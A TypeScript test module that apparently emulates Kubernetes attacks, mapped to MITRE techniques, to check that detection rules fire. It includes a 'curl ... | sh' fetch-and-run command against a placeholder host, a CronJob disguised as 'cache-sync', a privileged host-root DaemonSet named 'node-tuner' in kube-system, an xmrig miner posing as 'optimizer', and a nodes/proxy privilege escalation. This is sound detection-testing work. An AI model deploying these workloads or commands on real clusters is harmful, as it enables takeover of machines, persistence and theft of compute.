/** Commands in containers, and pods that take over their machine. */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { tokenOf } from '../cluster/recording/actors.ts'
import { expectStatus } from '../cluster/recording/stage.ts'
import { until } from '../cluster/until.ts'
import { type Act, accountProps, askForToken, disguised, type Player, pod, running, stage } from './act.ts'

const pods = `/api/v1/namespaces/${stage}/pods`

const hostRoot = { volumes: [{ name: 'host', hostPath: { path: '/' } }] }
const privileged = { containers: [{ name: 'main', image: 'alpine:3.22', securityContext: { privileged: true } }] }

/** Makes a pod and waits until it runs, as somebody does who wants to use it. */
const runPod = async ({ client, site }: Player, name: string, spec: object): Promise<void> => {
  expectStatus(await client.post(pods, pod(name, { ...spec })), 201)
  await running(site, name)
}

export const workloadActs: readonly Act[] = [
  {
    id: 'intruder',
    title: 'A service account runs a command in a pod, after it was refused another',
    mitre: 'T1609',
    matrix: 'MS-TA9006',
    who: 'a service account',
    from: 'inside',
    rules: ['exec-by-service-account', 'exec-refused'],
    props: [
      pod('intruded'),
      { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'intruder', namespace: stage } },
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        metadata: { name: 'intruder', namespace: stage },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
        subjects: [{ kind: 'ServiceAccount', name: 'intruder', namespace: stage }],
      },
    ],
    act: async ({ exec }) => {
      expectStatus(await exec('payments', 'postgres-0', ['id']), 403)
      expectStatus(await exec(stage, 'intruded', ['id']), 101)
    },
  },
  {
    id: 'system-intruder',
    title: 'A person runs a command in a pod of kube-system',
    mitre: 'T1609',
    matrix: 'MS-TA9006',
    who: 'a person',
    from: 'inside',
    rules: ['exec-in-system-namespace'],
    act: async ({ exec, pods: podsOf }) => {
      const [name = ''] = await podsOf('kube-system', 'coredns')
      expectStatus(await exec('kube-system', name, ['id']), 101)
    },
  },
  {
    id: 'fetcher',
    title: 'A command in a container fetches something and hands it to a shell',
    mitre: 'T1059.004',
    matrix: 'MS-TA9007',
    who: 'a person',
    from: 'inside',
    rules: ['exec-hostile-command'],
    props: [pod('fetched')],
    // kwok runs the commands on this machine: it is only printed.
    act: async ({ exec }) =>
      expectStatus(await exec(stage, 'fetched', ['echo', 'curl -s http://203.0.113.9/x | sh']), 101),
  },
  {
    id: 'collector',
    title: 'A service account copies files out of a pod with tar',
    mitre: 'T1005',
    matrix: 'MS-TA9041',
    who: 'a service account',
    from: 'inside',
    rules: ['exec-by-service-account', 'files-copied-out'],
    props: [pod('collected'), ...accountProps('collector')],
    act: async ({ exec }) => expectStatus(await exec(stage, 'collected', ['tar', 'cf', '-', '/dev/null']), 101),
  },
  {
    id: 'forwarder',
    title: 'A service account gets into a pod and forwards a port of it, with kubectl itself',
    mitre: 'T1090',
    matrix: 'MS-TA9034',
    who: 'a service account',
    from: 'inside',
    rules: ['exec-by-service-account', 'port-forward'],
    props: [pod('forwarded'), ...accountProps('forwarder')],
    act: async (player) => {
      expectStatus(await player.exec(stage, 'forwarded', ['id']), 101)
      await portForward(player, 'forwarded')
    },
  },
  {
    id: 'debugger',
    title: 'A privileged container is put into a running pod',
    mitre: 'T1609',
    matrix: 'MS-TA9011',
    who: 'a person',
    from: 'inside',
    rules: ['ephemeral-container-privileged', 'ephemeral-container'],
    props: [pod('debugged')],
    act: async ({ client }) => {
      const container = { name: 'debug', image: 'alpine:3.22', securityContext: { privileged: true } }
      const patch = { spec: { ephemeralContainers: [container] } }
      const type = 'application/strategic-merge-patch+json'
      expectStatus(await client.patch(`${pods}/debugged/ephemeralcontainers`, patch, type), 200)
    },
  },
  {
    id: 'privileged',
    title: 'A privileged pod',
    mitre: 'T1611',
    matrix: 'MS-TA9018',
    stratus: 'k8s.privilege-escalation.privileged-pod',
    who: 'a person',
    from: 'inside',
    rules: ['privileged-pod'],
    act: (player) => runPod(player, 'stage-privileged', privileged),
    leaves: [`${pods}/stage-privileged`],
  },
  {
    id: 'breakout',
    title: 'A pod with the root directory of its machine',
    mitre: 'T1611',
    matrix: 'MS-TA9013',
    stratus: 'k8s.privilege-escalation.hostpath-volume',
    who: 'a person',
    from: 'inside',
    rules: ['host-path-pod'],
    act: (player) => runPod(player, 'stage-host-path', hostRoot),
    leaves: [`${pods}/stage-host-path`],
  },
  {
    id: 'process-watcher',
    title: 'A pod with the processes of its machine',
    mitre: 'T1611',
    matrix: 'MS-TA9018',
    who: 'a person',
    from: 'inside',
    rules: ['host-pid-pod'],
    act: (player) => runPod(player, 'stage-host-pid', { hostPID: true }),
    leaves: [`${pods}/stage-host-pid`],
  },
  {
    id: 'refused',
    title: 'A privileged pod, refused by Pod Security',
    mitre: 'T1611',
    matrix: 'MS-TA9018',
    who: 'a person',
    from: 'inside',
    rules: ['host-access-refused'],
    act: async ({ client }) =>
      expectStatus(await client.post('/api/v1/namespaces/strict/pods', pod('refused', privileged, 'strict')), 403),
  },
  {
    id: 'node-proxy',
    title: 'Rights on nodes/proxy are given, and used to ask a kubelet',
    mitre: 'T1611',
    matrix: 'MS-TA9030',
    stratus: 'k8s.privilege-escalation.nodes-proxy',
    who: 'a person',
    from: 'inside',
    rules: ['node-proxy-rights', 'token-requested', 'kubelet-asked'],
    props: [{ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'node-proxy', namespace: stage } }],
    act: async (player) => {
      const rbac = '/apis/rbac.authorization.k8s.io/v1'
      const name = 'stage-node-proxy'
      const rules = [{ apiGroups: [''], resources: ['nodes/proxy'], verbs: ['get', 'create'] }]
      const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name }
      const subjects = [{ kind: 'ServiceAccount', name: 'node-proxy', namespace: stage }]
      expectStatus(await player.client.post(`${rbac}/clusterroles`, { metadata: { name }, rules }), 201)
      const binding = { metadata: { name }, roleRef, subjects }
      expectStatus(await player.client.post(`${rbac}/clusterrolebindings`, binding), 201)
      const account = await disguised(player, await askForToken(player, stage, 'node-proxy'))
      const path = '/api/v1/nodes/node-1/proxy/runningpods/'
      await until('the new rights to take effect', async () => (await account.client.get(path)).status !== 403)
      // The API server passes nothing on to loopback, where the kubelets of this cluster are: it is asked in vain.
      expectStatus(await account.client.get(path), 400)
    },
    leaves: [
      '/apis/rbac.authorization.k8s.io/v1/clusterroles/stage-node-proxy',
      '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/stage-node-proxy',
    ],
  },
  {
    id: 'backdoor',
    title: 'A DaemonSet in kube-system that owns every machine, by a person',
    mitre: 'T1543',
    matrix: 'MS-TA9012',
    who: 'a person',
    from: 'inside',
    rules: ['machine-takeover-workload', 'daemonset-created', 'kube-system-changed'],
    act: async ({ apply }) => {
      const labels = { app: 'node-tuner' }
      const spec = { ...privileged, ...hostRoot }
      const daemonSet = {
        apiVersion: 'apps/v1',
        kind: 'DaemonSet',
        metadata: { name: 'node-tuner', namespace: 'kube-system' },
        spec: { selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
      }
      expectStatus(await apply(daemonSet), 201)
    },
    leaves: ['/apis/apps/v1/namespaces/kube-system/daemonsets/node-tuner'],
  },
  {
    id: 'scheduler',
    title: 'A CronJob that fetches something and runs it',
    mitre: 'T1053.007',
    matrix: 'MS-TA9014',
    who: 'a person',
    from: 'inside',
    rules: ['job-fetches-and-runs'],
    act: async ({ client }) => {
      const command = ['sh', '-c', 'curl -fsSL http://203.0.113.9/x | sh']
      const containers = [{ name: 'main', image: 'curlimages/curl:8.11.0', command }]
      const jobTemplate = { spec: { template: { spec: { restartPolicy: 'Never', containers } } } }
      const cronJob = { metadata: { name: 'cache-sync' }, spec: { schedule: '0 4 * * *', jobTemplate } }
      expectStatus(await client.post(`/apis/batch/v1/namespaces/${stage}/cronjobs`, cronJob), 201)
    },
    leaves: [`/apis/batch/v1/namespaces/${stage}/cronjobs/cache-sync`],
  },
  {
    id: 'miner',
    title: 'A Deployment that mines',
    mitre: 'T1496',
    matrix: 'MS-TA9039',
    who: 'a person',
    from: 'inside',
    rules: ['crypto-miner'],
    act: async ({ client }) => {
      const labels = { app: 'optimizer' }
      const containers = [{ name: 'main', image: 'docker.io/metal3d/xmrig:6.22.2' }]
      const spec = { selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { containers } } }
      const deployments = `/apis/apps/v1/namespaces/${stage}/deployments`
      expectStatus(await client.post(deployments, { metadata: { name: 'optimizer' }, spec }), 201)
    },
    leaves: [`/apis/apps/v1/namespaces/${stage}/deployments/optimizer`],
  },
]

/** Resolves when kubectl says that it listens. */
const portForward = async ({ site: { cluster }, principal }: Player, name: string): Promise<void> => {
  const account = principal.split(':').at(-1) ?? ''
  const config = await cluster.kubeconfig(await tokenOf(cluster.admin, stage, account))
  const args = ['--kubeconfig', config, 'port-forward', '-n', stage, `pod/${name}`, ':80']
  const kubectl = spawn(cluster.program('kubectl'), args, { stdio: ['ignore', 'pipe', 'inherit'] })
  try {
    await once(kubectl.stdout, 'data')
  } finally {
    kubectl.kill()
    await once(kubectl, 'exit')
  }
}
